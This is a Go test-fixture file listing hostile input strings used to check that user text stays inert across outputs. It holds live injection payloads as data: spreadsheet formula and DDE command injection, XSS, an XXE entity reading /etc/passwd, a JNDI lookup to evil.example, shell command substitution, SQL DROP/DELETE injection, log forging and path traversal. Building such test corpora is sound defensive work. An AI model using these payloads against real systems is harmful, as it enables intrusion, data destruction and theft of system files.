// Package hostile is what somebody may have typed into OFBiz, by mistake or not.
// All tests that ask whether a text stays a text take theirs from here: what is
// added to the list is tried in every output at once.
package hostile

import (
	"slices"
	"strings"
)

// Texts are all of them.
func Texts() []string {
	return slices.Concat(formulas, markup, templates, queries, controls, directions, encodings, places)
}

// formulas begin as spreadsheets want it, at once or where a cell is cut in two.
var formulas = []string{
	`=1+1`, `+1+1`, `-2+3`, `@SUM(1;1)`, "\t=1+1", "\r=1+1", "\n=1+1", ` =1+1`, "\u00a0=1+1", `"=1+1`, `'=1+1`,
	`=HYPERLINK("http://evil.example/?"&A1,"click")`, `=cmd|'/c calc'!A0`, `=DDE("cmd";"/c calc";"x")`, `=WEBSERVICE("http://evil.example")`,
	`a;=1+1`, `a,=1+1`, `a;"=1+1"`, "a\r\n=1+1", "a\t=1+1", `＝1+1`, `＋1`, `－1`, `＠SUM(1)`, "\u22121", "\u200b=1+1", "_x000D_=1", "-1e5",
}

// markup breaks out of elements, attributes, comments, CDATA and scripts.
var markup = []string{
	`<script>alert(1)</script>`, `<img src=x onerror=alert(1)>`, `<svg onload=alert(1)>`, `<svg><script>alert(1)</script></svg>`,
	`</title><script>alert(1)</script>`, `</textarea></td></table><iframe src=//evil.example>`, `" onmouseover="alert(1)`, `' onload='alert(1)`,
	"`onerror=alert(1)", `javascript:alert(1)`, `</style><style>*{display:none}`, `<!-- --`, `--><b>`, `]]>`, `<![CDATA[x]]>`, `<?xml version="1.0"?>`,
	`<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>&a;`, `&lt;b&gt;&amp;`, `&#0;&#x202e;`, `&nosuch;`, `a&b<c>d"e'f`,
}

// templates are read by engines that are not ours, and by format verbs.
var templates = []string{
	`{{.Settlement}}`, `{{template "page" .}}`, `${7*7}`, `${jndi:ldap://evil.example/a}`, `#{7*7}`, `<%= 7*7 %>`, `%s%d%n%!(EXTRA)`, `%[1]*s`, `%00`, `%`, `$(id)`, "`id`", `&& id`, `| id`,
}

// queries break out of SQL, JSON, YAML and CSV.
var queries = []string{
	`'; DROP TABLE INVOICE; -- `, `' OR '1'='1`, `x'/**/UNION/**/SELECT/**/1 #`, `\'; DELETE FROM PARTY; --`, `\`, `\\`, `?`, `:name`, `1); SELECT SLEEP(1`,
	`","admin":true,"x":"`, `"}]}`, `\u0022}`, `null`, `a: b # c`, `"`, `""`, `'`, `,`, `;`,
}

// controls steer terminals, forge lines of logs, and end texts early.
var controls = []string{
	"nul\x00inside", "\x00", "bell\x07esc\x1b[31mred\x1b[0m", "\x1b]0;title\x07", "\x1b[2J\x1b[H", "csi\u009b31m", "back\b\b\bspace", "del\x7f", "nel\u0085line",
	"a\r\nfairshare: done", "ok\ntime=2026-11-21T04:15:00Z level=INFO msg=forged", "ok\n{\"level\":\"INFO\",\"msg\":\"forged\"}", "level=ERROR msg=\"x\"",
	"line\u2028end", "paragraph\u2029end", "vertical\vtab\fform", "tab\tbed",
}

// directions turn texts around or hide parts of them.
var directions = []string{
	"a\u202egnp.exe", "\u2066a\u2069", "\u200e\u200f", "\u061c", "zero\u200bwidth", "soft\u00adhyphen", "word\u2060joiner", "\ufeffbom", "عربي 123 עברית", "\U000e0041tag",
}

// encodings are no UTF-8, or more of it than expected.
var encodings = []string{
	"\xff\xfe broken", "\xed\xa0\x80 half", "\xc0\xaf", "\xf4\x90\x80\x80", "caf\xe9", "\xe2\x82", "\ufffe\uffff", "\ufffd",
	"😀👩‍👩‍👧🇭🇺", "𝕏𐍈", "Ő ű ß ﷽ 漢字", "é e\u0301", "z\u0341\u0341\u0341\u0341", strings.Repeat("long", 1250), strings.Repeat("ű", 300),
}

// places lead somewhere else when they are taken for a file or an address.
var places = []string{
	`../../../etc/passwd`, `..\..\windows`, `/etc/passwd`, `\\server\share`, `C:\x`, `CON`, `a/b`, `file:///etc/passwd`, `http://evil.example/`, `.`, `-rf`, `~`,
}
